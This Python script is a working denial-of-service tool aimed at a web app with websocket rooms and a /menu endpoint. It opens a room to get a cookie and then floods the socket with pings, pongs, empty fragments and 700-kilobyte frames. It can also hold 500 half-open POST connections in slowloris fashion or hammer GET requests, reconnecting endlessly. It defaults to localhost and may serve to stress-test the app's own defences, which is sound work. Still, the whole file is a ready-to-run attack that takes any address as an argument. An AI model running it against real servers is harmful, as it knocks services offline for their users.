"""An attacker's process: KIND PORT ADDRESS. Sends as much as is taken, and comes again when it is cut off."""

from __future__ import annotations

import http.client
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from functools import partial

ATTACKERS = 4
elsewhere = "127.0.0.1"
"""Where the attacker comes from, and finds the server."""

EMPTY = bytes([0x80]) + bytes(4)
FRAMES = {
    "pongs": b"\x8a" + EMPTY,
    "pings": b"\x89" + EMPTY,
    "empty fragments": b"\x00" + EMPTY,
    "tiny messages": b"\x81\x81" + bytes(4) + b"1",
    "large messages": b"\x81\xff" + (700_000).to_bytes(8, "big") + bytes(4) + b" " * 700_000,
}
HALF_OPEN, REQUESTS = "half-open requests", "requests"
KINDS = (*FRAMES, HALF_OPEN, REQUESTS)


def attack(kind: str, port: int, address: str) -> None:
    global elsewhere  # noqa: PLW0603
    elsewhere = address
    how: Callable[[], None]
    if kind in FRAMES:
        how = partial(flood, kind, port, *own_room(port))
    else:
        how = partial(hold if kind == HALF_OPEN else ask, port)
    for _ in range(1 if kind == HALF_OPEN else ATTACKERS):
        threading.Thread(target=how, daemon=True).start()
    while True:
        time.sleep(1)


def own_room(port: int) -> tuple[str, str]:
    connection = http.client.HTTPConnection(elsewhere, port)
    connection.request("POST", "/rooms")
    answer = connection.getresponse()
    cookie = (answer.headers["set-cookie"] or "").partition(";")[0]
    code = answer.read().decode().partition('code":"')[2].partition('"')[0]
    return f"/rooms/{code}/socket", cookie


def connect(port: int) -> socket.socket:
    return socket.create_connection((elsewhere, port), timeout=5)


def flood(kind: str, port: int, path: str, cookie: str) -> None:
    head = (
        f"GET {path} HTTP/1.1\r\nHost: {elsewhere}:{port}\r\nCookie: {cookie}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    data = FRAMES[kind] * max(1, 65536 // len(FRAMES[kind]))
    while True:
        with suppress(OSError), connect(port) as line:
            line.sendall(head.encode())
            line.recv(4096)
            if kind == "empty fragments":
                line.sendall(b"\x01" + EMPTY)
            while True:
                line.sendall(data)


def hold(port: int) -> None:
    """Five hundred connections that have begun to ask."""
    lines: list[socket.socket] = []
    while True:
        with suppress(OSError):
            lines.append(connect(port))
            lines[-1].sendall(b"POST /rooms HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{")
        for line in lines[:-500]:
            line.close()
        lines = lines[-500:]
        time.sleep(0.002)


def ask(port: int) -> None:
    while True:
        with suppress(OSError), connect(port) as line:
            while True:
                line.sendall(f"GET /menu HTTP/1.1\r\nHost: {elsewhere}:{port}\r\n\r\n".encode())
                if not line.recv(1 << 16):
                    break


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), sys.argv[3])
